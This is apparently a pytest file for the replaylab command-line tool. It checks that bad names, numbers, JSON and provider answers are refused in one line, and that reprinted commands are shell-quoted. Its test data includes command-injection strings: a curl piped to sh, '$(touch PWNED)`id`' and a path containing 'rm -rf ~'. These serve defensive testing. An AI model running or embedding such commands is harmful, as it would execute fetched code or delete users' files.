"""The command line with hostile or mistaken input (issue 16, cases 3, 6, 10, 13, 16, 17 and 21):
every value checked before a run is made or paid for, one line and exit code 2 for what the user
can fix, printed commands quoted, nothing overwritten, and the key in no file.

The commands run in this process (`replaylab.cli.main`), as the console script runs them, so that
a test sees what a person sees on stdout, stderr and in the exit code."""

import json
import shlex

import pytest

from helpers import RECORDINGS
from helpers.model_server import FakeProvider, completion
from replaylab import cli
from replaylab.agents import recording
from replaylab.agents.replay import rerecord_command
from replaylab.promote import promote

KEY = "sk-test-CLIKEY0123456789abcdefXYZ"


def run(capsys, *argv):
    """(exit code, stdout, stderr) of `replaylab *argv`; argparse's own errors end in SystemExit."""
    try:
        code = cli.main(list(argv))
    except SystemExit as stop:
        code = stop.code
    out = capsys.readouterr()
    return code, out.out, out.err


def one_line(err, *parts):
    lines = err.splitlines()
    assert len(lines) == 1, err
    for part in parts:
        assert part in lines[0], lines[0]
    return lines[0]


@pytest.fixture
def openai_env(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)


def openai_record(capsys, provider, *args):
    return run(capsys, "record", "hunter", "--variant", "symplectic-euler", "--provider", "openai", "--model", "fake-model",
               "--base-url", provider.base_url, *args)


# ---------------------------------------------------------------------------------------------
# Case 3 and 10: the run's name (and what else the file needs) is checked before the run


@pytest.mark.parametrize(
    "args, message",
    [
        (["--run", "my run"], "replaylab: --run: 'my run' is not a run name"),
        (["--run", "a" * 101], "replaylab: --run: a run name has at most 100 characters, this one has 101"),
        (["--run", "ok", "--group", "g\x1b[31m"], "replaylab: --group: 'g\\x1b[31m' holds the control character \\x1b"),
        (["--out", "x/bad name.json"], "replaylab: --out: 'bad name' is not a run name"),
    ],
)
def test_record_refuses_a_bad_name_before_the_run(tmp_path, monkeypatch, capsys, args, message):
    monkeypatch.chdir(tmp_path)
    code, out, err = run(capsys, "record", "hunter", *args)
    assert code == 2 and out == ""  # no step was made: nothing printed
    assert one_line(err).startswith(message)
    assert list(tmp_path.iterdir()) == []


def test_a_paid_run_is_never_started_for_a_name_it_could_not_be_saved_under(tmp_path, monkeypatch, capsys, openai_env):
    monkeypatch.chdir(tmp_path)
    existing = tmp_path / "results" / "live" / "hunter" / "mine.json"
    existing.parent.mkdir(parents=True)
    existing.write_text("a run recorded before")
    with FakeProvider([(200, completion("done"), {}, 0)] * 4) as provider:
        for args, message in [
            (["--run", "my run"], "--run: 'my run' is not a run name"),
            (["--run", "mine"], f"{existing.relative_to(tmp_path)}: a recording is already there, and a recorded run is never overwritten"),
            (["--run", "x", "--model", "gpt\nreplaylab: ok"], "--model: 'gpt\\nreplaylab: ok' holds the control character \\x0a"),
        ]:
            code, out, err = openai_record(capsys, provider, *args[:2]) if "--model" not in args else run(
                capsys, "record", "hunter", "--provider", "openai", "--base-url", provider.base_url, *args)
            assert code == 2 and out == "", (args, err)
            one_line(err, message)
        assert provider.requests == []  # nothing was asked of the model: nothing paid for
    assert existing.read_text() == "a run recorded before"


# ---------------------------------------------------------------------------------------------
# Case 6: the command printed on a mismatch is quoted, and stays one line


PROVIDER_OF = {"provider-api": "openai", "scripted": "scripted", "authored": "authored"}


def hostile(kind, **fields):
    run_ = recording.load(RECORDINGS / "hunter" / "symplectic-euler.json")
    provenance = {**run_.provenance, "kind": kind, "provider": PROVIDER_OF[kind], **{k: v for k, v in fields.items() if k in ("model", "seed")}}
    return recording.Recording(run_.lesson, run_.run, run_.variant, fields.get("group", run_.group), provenance,
                               run_.transcript, fields.get("source", run_.source))


@pytest.mark.parametrize(
    "kind, fields, value",
    [
        ("provider-api", {"model": "gpt; curl -s http://127.0.0.1:9/x | sh"}, "gpt; curl -s http://127.0.0.1:9/x | sh"),
        ("scripted", {"group": "$(touch PWNED)`id`"}, "$(touch PWNED)`id`"),
        ("authored", {"source": "recordings/hunter/it's here; rm -rf ~.json"}, "recordings/hunter/it's here; rm -rf ~.json"),
    ],
)
def test_the_rerecord_command_quotes_every_value(kind, fields, value):
    command = rerecord_command(hostile(kind, **fields))
    words = shlex.split(command)  # a shell sees the value as one word of the command, never as code
    assert value in words, (command, words)
    assert words[:2] == ["replaylab", "record"] and "\n" not in command


def test_a_mismatch_of_a_hostile_recording_prints_one_quoted_line(tmp_path, capsys):
    data = json.loads((RECORDINGS / "hunter" / "symplectic-euler.json").read_text())
    data["provenance"].update(kind="provider-api", provider="openai", model="m; touch PWNED")
    data["steps"][0]["results"][0]["content"]["max_energy_drift"] = 0.5
    path = tmp_path / "symplectic-euler.json"
    path.write_text(json.dumps(data))
    code, out, err = run(capsys, "replay", str(path))
    assert code == 3
    line = one_line(err, f"replaylab: {path}: message 1, call 1, tool oscillator_energy_drift: max_energy_drift was 0.5")
    words = shlex.split(line.split("record the run again with: ", 1)[1])
    assert words[words.index("--model") + 1] == "m; touch PWNED" and words[words.index("--run") + 1] == "symplectic-euler"


# ---------------------------------------------------------------------------------------------
# Case 13 and 21: promote


def promote_in(tmp_path, capsys, source, *args):
    return run(capsys, "promote", str(source), "--recordings", str(tmp_path / "recordings"), *args)


def forged(tmp_path):
    data = json.loads((RECORDINGS / "hunter" / "symplectic-euler.json").read_text())
    data["steps"][0]["results"][0]["content"]["max_energy_drift"] = 0.5
    path = tmp_path / "live" / "symplectic-euler.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data))
    return path


@pytest.mark.parametrize("tolerance", ["inf", "nan", "-1", "1e309", "many"])
def test_promote_refuses_a_tolerance_that_is_not_a_finite_number_of_at_least_0(tmp_path, capsys, tolerance):
    code, out, err = promote_in(tmp_path, capsys, forged(tmp_path), "--tolerance", tolerance)
    assert code == 2 and out == ""
    one_line(err, "replaylab promote: argument --tolerance: ", "is not a finite number of at least 0")
    assert not (tmp_path / "recordings").exists()
    for value in (float("inf"), float("nan"), -1e-9, True):
        with pytest.raises(ValueError, match="^--tolerance: .* is not a finite number of at least 0"):
            promote(forged(tmp_path), tmp_path / "recordings", tolerance=value)


def test_promote_names_the_file_in_its_messages(tmp_path, capsys):
    path = forged(tmp_path)
    code, _, err = promote_in(tmp_path, capsys, path)
    assert code == 3
    one_line(err, f"replaylab: {path}: message 1, call 1, tool oscillator_energy_drift: max_energy_drift was 0.5")
    data = json.loads((RECORDINGS / "hunter" / "symplectic-euler.json").read_text())
    data["variant"] = "closed"
    path.write_text(json.dumps(data))
    code, _, err = promote_in(tmp_path, capsys, path)
    assert code == 2
    one_line(err, f"replaylab: {path}: $.variant: instance hunter-seed-symplectic-euler of lesson hunter has no variant 'closed'; its variants are: symplectic-euler")
    assert not (tmp_path / "recordings").exists()


def test_a_recording_that_does_not_load_is_replaced_by_promoting_a_good_one(tmp_path, capsys):
    target = tmp_path / "recordings" / "hunter" / "symplectic-euler.json"
    target.parent.mkdir(parents=True)
    target.write_text('{"format": "replaylab-recording/1",')  # cut short
    source = tmp_path / "live" / "symplectic-euler.json"
    source.parent.mkdir()
    source.write_bytes((RECORDINGS / "hunter" / "symplectic-euler.json").read_bytes())
    code, out, err = promote_in(tmp_path, capsys, source)
    assert code == 0, err
    lines = out.splitlines()
    assert lines[1] == f"replaces a recording that does not load: {target}: not valid JSON: Expecting property name enclosed in double quotes: line 1 column 36 (char 35)"
    assert lines[-1] == f"moved {source} -> {target}"
    assert target.read_bytes() == (RECORDINGS / "hunter" / "symplectic-euler.json").read_bytes() and not source.exists()


def test_promote_refuses_to_replace_a_folder(tmp_path, capsys):
    (tmp_path / "recordings" / "hunter" / "symplectic-euler.json").mkdir(parents=True)
    source = tmp_path / "symplectic-euler.json"
    source.write_bytes((RECORDINGS / "hunter" / "symplectic-euler.json").read_bytes())
    code, _, err = promote_in(tmp_path, capsys, source)
    assert code == 2
    one_line(err, f"replaylab: {tmp_path / 'recordings' / 'hunter' / 'symplectic-euler.json'}: a folder, not a recording file")
    assert source.exists()


def scripted(tmp_path, monkeypatch, capsys, seed, name):
    monkeypatch.chdir(tmp_path)
    code, _, err = run(capsys, "record", "hunter", "--variant", "velocity-verlet", "--seed", str(seed), "--run", name)
    assert code == 0, err
    return tmp_path / "results" / "live" / "hunter" / f"{name}.json"


def test_promote_says_who_produced_the_run_when_only_the_model_changed(tmp_path, monkeypatch, capsys):
    """Both runs are scripted baselines (the same kind); seeds 0 and 1 are different programs."""
    first = scripted(tmp_path, monkeypatch, capsys, 0, "velocity-verlet")
    assert promote_in(tmp_path, capsys, first)[0] == 0
    second = scripted(tmp_path, monkeypatch, capsys, 1, "velocity-verlet")
    code, out, _ = promote_in(tmp_path, capsys, second, "--dry-run")
    assert code == 0
    assert ("  produced by: hunter baseline, coarse-first (a scripted program, not a language model) -> "
            "hunter baseline, safe-region (a scripted program, not a language model)") in out.splitlines()
    second.unlink()
    again = scripted(tmp_path, monkeypatch, capsys, 4, "velocity-verlet")  # seed 4: coarse-first again, the same program
    code, out, _ = promote_in(tmp_path, capsys, again, "--dry-run")
    assert code == 0 and "  messages: 3 -> 3" in out.splitlines()
    assert not any(line.startswith("  produced by") for line in out.splitlines()), out


def test_promote_copies_the_bytes_it_checked_even_when_compact(tmp_path, capsys):
    compact = json.dumps(json.loads((RECORDINGS / "hunter" / "symplectic-euler.json").read_text()), separators=(",", ":"))
    source = tmp_path / "symplectic-euler.json"
    source.write_text(compact)
    code, _, err = promote_in(tmp_path, capsys, source)
    assert code == 0, err
    assert (tmp_path / "recordings" / "hunter" / "symplectic-euler.json").read_text() == compact  # not re-formatted


# ---------------------------------------------------------------------------------------------
# Case 16: numbers on the command line, a provider that does not answer a chat completion


@pytest.mark.parametrize("count", ["-5", "0", "2.5", "many"])
def test_generate_refuses_a_count_that_is_not_a_whole_number_of_at_least_1(tmp_path, capsys, count):
    code, out, err = run(capsys, "generate", "hunter", "--count", count, "--out", str(tmp_path / "g"))
    assert code == 2 and out == ""
    one_line(err, "replaylab generate: argument --count: ", "is not a whole number of at least 1")
    assert not (tmp_path / "g").exists()


def test_generate_refuses_a_count_too_large_before_planning_any_run():
    """99999999999 runs: one line at once, not gigabytes of planned runs (found by a hostile-user
    pass). The option's type is called directly: without the limit, the command fills the memory."""
    import argparse

    from replaylab.cli.common import count

    assert count("1000000") == 1_000_000
    with pytest.raises(argparse.ArgumentTypeError, match=r"^'99999999999' is more than 1000000 runs$"):
        count("99999999999")


@pytest.mark.parametrize(
    "arguments, problem",
    [
        ("[" * 5000 + "]" * 5000, "the arguments: nested more than 64 levels deep"),
        ('{"speed": ' + "9" * 5000 + "}", "the arguments: $.speed: an integer of 5000 digits"),
        ('{"speed": 25, "angle": 40, "dt": 0.01, "angle": 45}', "the arguments: $: the key 'angle' appears twice"),
        ('{"speed": NaN, "angle": 40, "dt": 0.01}', "the arguments: $.speed: NaN is not allowed"),
    ],
)
def test_call_reads_its_arguments_as_strictly_as_a_recording(capsys, arguments, problem):
    """`replaylab call`'s JSON is read by the recordings' reader: one line, exit code 2 (found by
    a hostile-user pass: a RecursionError, Python's advice on integers, the last key winning)."""
    code, out, err = run(capsys, "call", "projectile", "range_with_drag", arguments)
    assert code == 2 and out == ""
    one_line(err, f"replaylab: {problem}")


def test_build_refuses_a_recordings_folder_that_does_not_exist(tmp_path, capsys):
    """A typo in --recordings is one line, not pages of zero runs (found by a hostile-user pass)."""
    code, out, err = run(capsys, "build", "hunter", "--recordings", str(tmp_path / "typo"), "--results", str(tmp_path / "r"))
    assert code == 2 and out == ""
    one_line(err, f"replaylab: --recordings {tmp_path / 'typo'}: not a folder")
    assert not (tmp_path / "r").exists()


def test_generate_never_overwrites_and_writes_nothing_when_one_run_exists(tmp_path, capsys):
    existing = tmp_path / "g" / "hunter" / "s00002.json"
    existing.parent.mkdir(parents=True)
    existing.write_text("mine")
    code, _, err = run(capsys, "generate", "hunter", "--count", "4", "--out", str(tmp_path / "g"))
    assert code == 2
    one_line(err, f"replaylab: {existing}: already exists, and a recorded run is never overwritten")
    assert sorted(p.name for p in existing.parent.iterdir()) == ["s00002.json"] and existing.read_text() == "mine"


@pytest.mark.parametrize("verb", ["replay", "build"])
@pytest.mark.parametrize("tolerance", ["-1", "nan", "inf"])
def test_a_tolerance_option_that_is_not_a_finite_number_names_the_option(capsys, verb, tolerance):
    args = [str(RECORDINGS / "hunter" / "velocity-verlet.json")] if verb == "replay" else []
    code, out, err = run(capsys, verb, *args, "--tolerance", tolerance)
    assert code == 2 and out == ""
    one_line(err, f"replaylab {verb}: argument --tolerance: {tolerance!r} is not a finite number of at least 0")


def bad_content():
    body = completion("x")
    body["choices"][0]["message"]["content"] = ["not", "text"]
    return body


@pytest.mark.parametrize(
    "body, message",
    [
        (b"<html>502 Bad Gateway</html>", "replaylab: the provider's answer is not JSON: Expecting value"),
        (bad_content(), "replaylab: the provider's answer is not a chat completion: $.choices[0].message.content is list, not text"),
        ({"choices": [{"message": 5}]}, "replaylab: the provider's answer is not a chat completion: $.choices[0].message is int"),
        (b'{"choices": ' + b"[" * 5000 + b"]" * 5000 + b"}", "replaylab: the provider's answer is not JSON: nested too deep"),
    ],
)
def test_a_provider_answer_that_is_not_a_chat_completion_is_one_line(tmp_path, monkeypatch, capsys, openai_env, body, message):
    monkeypatch.chdir(tmp_path)
    with FakeProvider([(200, body, {}, 0)]) as provider:
        code, _, err = openai_record(capsys, provider, "--run", "x")
    assert code == 1
    assert one_line(err).startswith(message) and "AttributeError" not in err
    assert not (tmp_path / "results" / "live" / "hunter" / "x.json").exists()


def test_ansi_escapes_in_a_recording_never_reach_the_terminal(tmp_path, capsys):
    data = json.loads((RECORDINGS / "hunter" / "symplectic-euler.json").read_text())
    data["steps"][0]["text"] = "\x1b[2J\x1b[31mall clear\x1b]0;title\x07\nsecond line"
    path = tmp_path / "symplectic-euler.json"
    path.write_text(json.dumps(data))
    code, out, err = run(capsys, "replay", str(path))
    assert code == 0, err
    assert "\x1b" not in out and "\x07" not in out
    assert "message 1: \\x1b[2J\\x1b[31mall clear\\x1b]0;title\\x07\nsecond line" in out


def test_ansi_escapes_in_a_recording_never_reach_the_page():
    from replaylab.lessons import markdown

    hostile = "\x1b[2J\x1b[31mred\u202eevil\x07"
    for shown in (markdown.text(hostile), markdown.cell(hostile), markdown.quote(hostile, "Words:"), markdown.fenced(hostile)):
        assert not any(c in shown for c in "\x1b\x07\u202e"), shown
        assert "x1b" in shown and "u202e" in shown


# ---------------------------------------------------------------------------------------------
# Case 17: the key never reaches a recording, whatever the server or the user does


def test_request_ids_that_echo_the_key_are_kept_cleaned():
    from replaylab.agents.clients.openai import OpenAIClient
    from replaylab.agents.secrets import Secret
    from replaylab.agents import loop
    from replaylab.lessons import registry

    with FakeProvider([(200, completion("done"), {"x-request-id": "req-{AUTH}"}, 0)]) as provider:
        client = OpenAIClient("fake-model", Secret(KEY), base_url=provider.base_url)
        v = registry.lesson("hunter").variant("symplectic-euler")
        loop.run(client, v.system, v.task, v.allowlist(), v.max_steps)
    assert client.provenance_extra()["request_ids"] == ["req-1, req-Bearer [redacted]"]


def test_record_saves_the_run_cleaned_of_the_clients_key(tmp_path, monkeypatch, capsys, openai_env):
    """A key pasted as the model's name reaches no file: record saves with the client's secrets."""
    monkeypatch.chdir(tmp_path)
    with FakeProvider([(200, completion("done"), {"x-request-id": "id-{AUTH}"}, 0)]) as provider:
        code, out, err = run(capsys, "record", "hunter", "--variant", "symplectic-euler", "--provider", "openai", "--model", KEY,
                             "--base-url", provider.base_url, "--run", "keyed")
    assert code == 0, err
    text = (tmp_path / "results" / "live" / "hunter" / "keyed.json").read_text()
    assert KEY not in text + out + err
    data = json.loads(text)
    assert data["provenance"]["model"] == "[redacted]"
    assert data["provenance"]["request_ids"] == ["req-1, id-Bearer [redacted]"]
